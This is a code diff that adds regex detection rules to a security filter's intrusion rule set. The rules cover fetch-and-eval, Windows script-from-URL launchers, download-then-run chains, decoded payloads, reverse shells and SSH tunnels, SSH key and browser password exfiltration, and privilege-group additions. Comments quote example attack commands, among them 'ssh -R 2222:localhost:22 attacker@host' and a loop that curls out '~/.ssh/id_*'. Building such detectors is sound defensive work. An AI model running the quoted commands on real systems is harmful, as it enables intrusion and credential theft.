@@ -8,14 +8,21 @@ from __future__ import annotations
 from typing import Final
 
 from toolang_hook_security_filter.fragments import (
+    BROWSER_HINTS,
+    BROWSER_SECRET,
     CH,
+    CODE_DECODE,
+    CODE_RUNNERS,
     COPIERS,
     CREDENTIAL_FILE,
     CREDENTIAL_HINTS,
+    DECODE_HINTS,
     DOWNLOADER,
     DOWNLOADERS,
     END,
+    EXEC_MODE,
     FETCHED,
+    FETCHERS,
     HOME,
     INTERPRETER,
     NET_SENDER,
@@ -26,6 +33,7 @@ from toolang_hook_security_filter.fragments import (
     READERS,
     RUN_FILE,
     SECRET_DIR,
+    SECRET_DIR_GLOB,
     SECRET_FILE,
     SECRET_HINTS,
     SENDERS,
@@ -45,6 +53,18 @@ from toolang_hook_security_filter.fragments import (
     w,
 )
 from toolang_hook_security_filter.spec import RuleSpec, alt, spec
+
+FETCHER = w(*FETCHERS, before=r"[\w.-]")
+ANY = r"[\s\S]"
+CODE_SENDERS = ("post", "put", "patch", "request", "urlopen", "upload", "upload_file", "fetch")
+# Node: a shell spawned (`spawn('/bin/sh')`) and a socket opened (`net.connect(…)`).
+NODE_SHELL = (
+    r"\b(?:spawn|exec)\w*\(\s*[\"'`](?:/bin/|/usr/bin/)?"
+    r"(?:(?:ba|z|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)[\"'`]"
+)
+NODE_SOCKET = (
+    r"(?:\bnet\b[\w'\"`()\s]{0,20}?\.\s*(?:connect|createconnection)\(|\bnew\s+net\.socket\b)"
+)
 
 INTRUSION: Final[tuple[RuleSpec, ...]] = (
     spec(
@@ -85,6 +105,25 @@ INTRUSION: Final[tuple[RuleSpec, ...]] = (
             "exec",
             "eval",
         ),
+        # The other way round: a fetch whose answer is run (`https.get(u, r => … eval(d))`).
+        alt(
+            r"(?:\bhttps?\b[\"'`)]{0,3}\.(?:get|request)\(|\bfetch\(|\baxios\.get\(|\burlopen\(|\brequests\.get\()"
+            r"[^\n]{0,400}?(?:(?<![\w.])(?:eval|exec)\(|\bnew\s+function\(|\bvm\.run\w*\()",
+            "eval",
+            "exec",
+            "function",
+            "vm",
+        ),
+        # Windows programs that run a script straight from a URL (mshta, regsvr32 /i:,
+        # rundll32 javascript:, msiexec /i, wmic /format:).
+        alt(
+            rf"{w('mshta')}(?:\.exe)?\s+{Q}(?:https?:|\\\\|vbscript:|javascript:)"
+            rf"|{w('regsvr32')}(?:\.exe)?\s{upto('regsvr32')}/i:{Q}(?:https?:|\\\\)"
+            rf"|{w('rundll32')}(?:\.exe)?\s{upto('rundll32')}javascript:"
+            rf"|{w('msiexec')}(?:\.exe)?\s{upto('msiexec')}/(?:i|package)\s+{Q}https?:"
+            rf"|{w('wmic')}(?:\.exe)?\s{upto('wmic')}/format:{Q}https?:",
+            *("mshta", "regsvr", "rundll", "msiexec", "wmic"),
+        ),
     ),
     spec(
         "download-then-execute",
@@ -118,6 +157,19 @@ INTRUSION: Final[tuple[RuleSpec, ...]] = (
             "curl",
             "wget",
         ),
+        # Any download, then a file made runnable and run (`tftp -g -r bot h && chmod +x
+        # bot && ./bot`), on the same or later lines.
+        alt(
+            rf"{FETCHER}\s{scan(ANY, *FETCHERS)}"
+            rf"\bchmod\s+(?:-\S+\s+)*{EXEC_MODE}\s+{QUOTED_FILE}{then_runs('chmod')}",
+            "chmod",
+        ),
+        # A download written to a file through stdout (`wget -O- url > /tmp/m; sh /tmp/m`).
+        alt(
+            rf"{FETCHER}\s(?>{upto(*FETCHERS, line=True)}"
+            rf"(?<![\d&>])>(?!>)\s*{QUOTED_FILE}){then_runs(*FETCHERS)}",
+            *("curl", "wget", "tftp", "ftp", "ftpget", "aria", "fetch", "download", "iwr"),
+        ),
     ),
     spec(
         "decoded-payload-executed",
@@ -129,8 +181,20 @@ INTRUSION: Final[tuple[RuleSpec, ...]] = (
             "base",
             "xxd",
         ),
-        alt(rf"{w('eval')}\s+[\"']?\$\([^)]*base64\s+(?:-d|--decode)", "base"),
+        # A shell running what a decoder prints (`bash -c "$(echo … | base64 -d)"`,
+        # `eval $(…)`, `source <(…)`).
+        alt(
+            r"(?:\b(?:(?:ba|z|da|k)?sh|python[23]?|perl|ruby|node)\s+-[ce]|\beval|\bsource"
+            r"|(?:^|[;&|(\n])\s*\.|\b(?:ba|z|da|k)?sh)\s+[\"']?(?:\$\(|<\(|`)"
+            r"[^)`\n]*?(?:\bbase64\s+(?:-d|--decode)\b|\bxxd\s+-r\b|\bopenssl\s[^)`\n]*?-d\b)",
+            "base",
+            "xxd",
+            "openssl",
+        ),
         alt(rf"{w('exec', 'eval')}\(\s*(?:base64\.b64decode|__import__\(\s*[\"']base64)", "base"),
+        # Code handing decoded text to a runner: `os.system(b64decode(…))`, `eval(atob(…))`.
+        alt(rf"{w(*CODE_RUNNERS)}\(\s*{CODE_DECODE}", *DECODE_HINTS),
+        alt(rf"{w('iex', 'invoke-expression')}\b[^\n]{{0,200}}?frombase64string\b", "frombase"),
         alt(
             rf"{w('powershell', 'pwsh')}(?:\.exe)?\s{upto('powershell', 'pwsh', line=True)}"
             r"-(?:EncodedCommand|enc|ec|e)\s+"
@@ -173,6 +237,20 @@ INTRUSION: Final[tuple[RuleSpec, ...]] = (
             r"TCPSocket\.(?:new|open)\b[^\n]*?(?:exec|spawn|/bin/(?:ba)?sh|IO\.popen)", "tcpsocket"
         ),
         alt(r"Net\.Sockets\.TCPClient\b", "tcpclient"),
+        # Node: a shell spawned and a socket opened in the same code, either order.
+        alt(
+            rf"child_process\b[^\n]{{0,300}}?{NODE_SHELL}[^\n]{{0,400}}?{NODE_SOCKET}"
+            rf"|{NODE_SOCKET}[^\n]{{0,400}}?child_process\b[^\n]{{0,300}}?{NODE_SHELL}",
+            "child",
+        ),
+        # A remote host given a way into this machine's remote-access services
+        # (`ssh -R 2222:localhost:22 attacker@host`: SSH, telnet, RDP, VNC, WinRM).
+        alt(
+            rf"{w('ssh', 'autossh')}\s{upto('ssh', 'autossh')}-[a-z]*R\s*{Q}"
+            r"(?:[\w.*\[\]-]+:)?\d+:[\w.\[\]-]+:(?:22|23|3389|5900|5985|5986)(?![\w.])",
+            "ssh",
+            "autossh",
+        ),
         alt(r"exec\s*\(?\s*[\"']/bin/(?:ba)?sh\s+-i", "exec"),
         alt(
             rf"{w('openssl')}\s+s_client\b{upto('openssl', line=True)}\|\s*(?:/bin/)?(?:ba)?sh\b",
@@ -219,10 +297,18 @@ INTRUSION: Final[tuple[RuleSpec, ...]] = (
         ),
         # From code: an HTTP call whose arguments read a key or credential file.
         alt(
-            rf"{w('post', 'put', 'patch', 'request', 'urlopen', 'upload', 'upload_file')}"
-            rf"\s*\([^\n]{{0,300}}?{SECRET_FILE}",
+            rf"{w(*CODE_SENDERS)}\s*\([^\n]{{0,300}}?{SECRET_FILE}",
             *SECRET_HINTS,
         ),
+        # A loop over keys or credentials whose body sends each (`for f in ~/.ssh/id_*; do
+        # curl -F "f=@$f" …; done`).
+        alt(
+            rf"{w('for', 'foreach')}\s+\$?(\w+)\s+in\s[^\n;]*?(?:{SECRET_FILE}|{SECRET_DIR_GLOB})"
+            rf"[\s\S]{{0,200}}?\bdo\b[\s\S]{{0,300}}?{NET_SENDER}[^\n]*?\$\{{?\1\b",
+            *SECRET_HINTS,
+        ),
+        # A browser's saved passwords, named at all: read, copied or archived to be sent.
+        alt(BROWSER_SECRET, *BROWSER_HINTS),
         alt(
             rf"(?:{w('env', 'printenv', 'set')}|{w('export')}\s+-p)\s*\|"
             rf"{scan(NO_SEMI, 'env', 'printenv', 'set', 'export')}{NET_SENDER}",
@@ -322,6 +408,40 @@ INTRUSION: Final[tuple[RuleSpec, ...]] = (
         alt(rf"{w('passwd')}\s+-d\s+root\b", "passwd"),
         alt(rf"{w('root')}:[^\s:'\"]+[^\n|]*+\|\s*(?:sudo\s+)?chpasswd\b", "chpasswd"),
         alt(code_writes(r"/etc/(?:passwd|g?shadow|group|sudoers(?:\.d/[^\s'\"]*)?)"), "etc"),
+        # Windows: the built-in Administrator's (or Guest's) password set or the account
+        # switched on; anyone added to the administrators (or remote desktop) group.
+        alt(
+            rf"{w('net', 'net1')}(?:\.exe)?\s+user\s+{Q}(?:administrator|guest){Q}\s+"
+            r"(?:[^\s/]|/active:yes\b)",
+            "administrator",
+            "guest",
+        ),
+        alt(
+            rf"{w('net', 'net1')}(?:\.exe)?\s+(?:local)?group\s+{Q}"
+            r"(?:administrators|administrateurs|administratoren|administradores|domain\sadmins"
+            rf"|remote\sdesktop\susers){Q}\s{upto('net', 'net1')}/add\b",
+            "localgroup",
+            "group",
+        ),
+        alt(
+            rf"{w('add-localgroupmember', 'add-adgroupmember')}\s"
+            rf"{upto('add-localgroupmember', 'add-adgroupmember')}{Q}"
+            r"(?:administrators|domain\sadmins|remote\sdesktop\susers)\b",
+            "localgroupmember",
+            "adgroupmember",
+        ),
+        # Linux's equivalent: a user added to the groups that may use sudo.
+        alt(
+            rf"{w('usermod')}\s{upto('usermod')}-[a-z]*g\s*{Q}(?:[\w-]+,)*(?:sudo|wheel|admin|root)"
+            rf"{Q}(?=[,\s;&|]|$)",
+            "usermod",
+        ),
+        alt(
+            rf"(?:{w('gpasswd')}\s+-a\s+|{w('adduser')}\s+)[\w.$-]+\s+{Q}(?:sudo|wheel|admin|root)"
+            rf"{Q}{END}",
+            "gpasswd",
+            "adduser",
+        ),
     ),
     spec(
         "ssh-authorized-keys-write",
